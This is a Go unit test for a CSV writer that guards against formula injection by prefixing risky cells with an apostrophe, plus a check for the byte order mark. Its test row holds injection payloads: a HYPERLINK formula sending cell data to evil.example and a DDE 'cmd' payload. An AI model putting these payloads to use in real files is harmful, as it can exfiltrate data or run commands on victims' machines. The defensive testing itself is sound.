package csvfile

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

func TestFormulaCellsAreGuarded(t *testing.T) {
	var b bytes.Buffer
	w, err := NewWriter(&b, true)
	if err != nil {
		t.Fatal(err)
	}
	row := []string{`=HYPERLINK("http://evil.example/?"&A1,"点此")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
		"\t=1", "\r=1", "-5", "+3.25", "1.5e3", "-", "宜昌市西陵区审计局", "", "-Inf", "0x10", "a=b"}
	if err := w.Write(row); err != nil {
		t.Fatal(err)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(b.String(), "\uFEFF") {
		t.Fatalf("no byte order mark: %.20q", b.String())
	}
	got, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(b.String(), "\uFEFF"))).Read()
	if err != nil {
		t.Fatal(err)
	}
	want := []string{`'=HYPERLINK("http://evil.example/?"&A1,"点此")`, "'+1+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1:A9)",
		"'\t=1", "'\r=1", "-5", "+3.25", "1.5e3", "-", "宜昌市西陵区审计局", "", "'-Inf", "0x10", "a=b"}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("cell %q written as %q, want %q", row[i], got[i], want[i])
		}
	}
}

func TestWithoutByteOrderMark(t *testing.T) {
	var b bytes.Buffer
	w, _ := NewWriter(&b, false)
	w.Write([]string{"a", "b"})
	if err := w.Flush(); err != nil || b.String() != "a,b\n" {
		t.Errorf("%q %v", b.String(), err)
	}
}
